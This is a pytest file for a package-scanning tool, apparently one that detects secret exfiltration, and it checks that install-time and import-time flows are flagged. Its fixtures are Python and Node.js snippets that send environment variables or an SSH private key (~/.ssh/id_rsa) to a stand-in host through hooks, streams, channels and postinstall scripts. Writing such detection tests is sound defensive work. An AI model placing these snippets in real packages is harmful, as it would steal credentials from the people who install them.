"""What early code hands to somebody outside runs at that moment, and gets what is handed along with it."""

import pytest
from attack_files import npm, sdist, wheel

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Flow, Taint
from ostiary.program.model import Program

SEND = "def send(data):\n    urllib.request.urlopen('https://a.example.invalid/', data=repr(data).encode())\n"
EARLY = {
    "a place that shows": "sys.displayhook = send\nsys.displayhook(dict(os.environ))",
    "a place where errors end": "sys.excepthook = lambda t, v, b: send(v)\n"
    "raise SystemError(dict(os.environ))",
    "a place for warnings": "warnings.showwarning = lambda m, *a: send(m)\n"
    "warnings.warn(repr(dict(os.environ)))",
    "a loop": "asyncio.new_event_loop().call_soon(send, dict(os.environ))",
    "a clock": "sched.scheduler().enterabs(0, 1, send, argument=(dict(os.environ),))",
    "a clock of nobody": "outside.Clock().enter(send, args=(dict(os.environ),))",
    "a callback": "outside.schedule(lambda: send(dict(os.environ)))",
    "a buffer of a log": "class H(logging.Handler):\n    def emit(self, r): send(self.format(r))\n"
    "log = logging.getLogger('z')\nlog.addHandler(logging.handlers.MemoryHandler(1, target=H()))\n"
    "log.error('%s', dict(os.environ))",
    "half a method": "class K:\n    def f(self, data): send(data)\n"
    "    g = functools.partialmethod(f, dict(os.environ))\nK().g()",
    "by its class": "@functools.singledispatch\ndef f(x): pass\n@f.register\ndef _(x: dict): send(x)\n"
    "f(dict(os.environ))",
    "by a class that is named": "@functools.singledispatch\ndef f(x): pass\n@f.register(dict)\n"
    "def _(x): send(x)\nf(dict(os.environ))",
    "a method by its class": "class K:\n    @functools.singledispatchmethod\n    def f(self, x): pass\n"
    "    @f.register\n    def _(self, x: dict): send(x)\nK().f(dict(os.environ))",
}
LATER = {
    "a route": "app = outside.App()\n@app.get('/x')\ndef f():\n    send(dict(os.environ))",
    "a command": "@outside.command()\ndef f():\n    send(dict(os.environ))",
    "a tool": "outside.Tool('name', func=lambda data: send(dict(os.environ)))",
    "a choice": "def f(args):\n    send(dict(os.environ))\nparser.set_defaults(func=f)",
    "in code that is called": "def f():\n    outside.schedule(lambda: send(dict(os.environ)))",
}
FETCH = "fetch('https://a.example.invalid/', {method: 'POST', body: "
SCRIPTS = {
    "a packer": f"require('zlib').gzip(JSON.stringify(process.env), (e, b) => {FETCH}b}}))",
    "lines of a file": "const r = require('readline').createInterface({input: require('fs')"
    f".createReadStream(require('os').homedir() + '/.ssh/id_rsa')}}); r.on('line', l => {FETCH}l}}))",
    "a stream by options": "const {Transform} = require('stream'); const t = new Transform({transform("
    f"c, e, n) {{ {FETCH}c}}); n() }}}}); t.write(JSON.stringify(process.env))",
    "a stream by its class": "const {Writable} = require('stream'); class W extends Writable { "
    f"_write(c, e, n) {{ {FETCH}c}}); n() }} }}; new W().end(JSON.stringify(process.env))",
    "a pipe": "const {Writable, Readable} = require('stream'); const w = new Writable({write(c, e, n) "
    f"{{ {FETCH}c}}) }}}}); Readable.from(JSON.stringify(process.env)).pipe(w)",
    "two ports": f"const {{port1, port2}} = new MessageChannel(); port2.onmessage = e => {FETCH}e.data}});"
    "port1.postMessage(JSON.stringify(process.env))",
    "a port that listens": f"const {{port1, port2}} = new MessageChannel(); port2.on('message', "
    f"e => {FETCH}e}}));port1.postMessage(JSON.stringify(process.env))",
    "a broadcast": f"const b = new BroadcastChannel('a'); b.onmessage = e => {FETCH}e.data}});"
    "new BroadcastChannel('a').postMessage(JSON.stringify(process.env))",
    "diagnostics": f"const d = require('diagnostics_channel').channel('z'); d.subscribe(m => {FETCH}m}}));"
    "d.publish(JSON.stringify(process.env))",
    "a store": "const {AsyncLocalStorage: A} = require('async_hooks'); const a = new A();"
    f"a.run(JSON.stringify(process.env), () => {FETCH}a.getStore()}}))",
    "a place for output": f"process.stdout.write = d => {FETCH}d}}); console.log(process.env)",
    "a session": "const s = new (require('inspector').Session)(); s.connect(); s.post('Runtime.evaluate', "
    f"{{expression: 'process.env', returnByValue: true}}, (e, r) => {FETCH}JSON.stringify(r)}}))",
}


def flows(facts: tuple[object, ...]) -> list[Flow]:
    program = next(one for one in facts if isinstance(one, Program))
    return [one for one in program.flows if one.act is Act.SEND]


def python(text: str, path: str) -> list[Flow]:
    names = "asyncio, functools, logging, logging.handlers, os, outside, sched, sys, urllib.request, warnings"
    made = sdist if path == "setup.py" else wheel
    return flows(made({path: f"import {names}\n{SEND}{text}\n"}).facts)


@pytest.mark.parametrize("way", EARLY)
@pytest.mark.parametrize("path", ["pkg/__init__.py", "setup.py"])
def test_python_gets_it_early(way: str, path: str) -> None:
    moment = Reach.INSTALL if path == "setup.py" else Reach.IMPORT
    found = python(EARLY[way], path)
    assert any(one.reach is moment and one.has(Taint.ENVIRONMENT) for one in found)


@pytest.mark.parametrize("way", LATER)
def test_what_waits_keeps_its_moment(way: str) -> None:
    found = python(LATER[way], "pkg/__init__.py")
    assert found
    assert {one.reach for one in found} == {Reach.CALL}


@pytest.mark.parametrize("way", SCRIPTS)
def test_scripts_get_it_early(way: str) -> None:
    files = {"setup.js": SCRIPTS[way]}
    found = flows(npm(files, scripts={"postinstall": "node setup.js"}).facts)
    told = {Taint.ENVIRONMENT, Taint.SECRET}
    assert any(one.reach is Reach.INSTALL and one.has(*told) for one in found)


def test_who_types_is_waited_for() -> None:
    text = f"require('readline').createInterface({{input: process.stdin}}).on('line', l => {FETCH}l}}))"
    found = flows(npm({"setup.js": text}, scripts={"postinstall": "node setup.js"}).facts)
    assert {one.reach for one in found} == {Reach.CALL}


def test_a_function_that_was_handed_over_may_be_called_by_others() -> None:
    """What a caller hands in is looked at all the same."""
    text = "def f(password):\n    send(password)\noutside.schedule(f)"
    found = python(text, "pkg/__init__.py")
    assert any(one.has(Taint.KEY) for one in found)
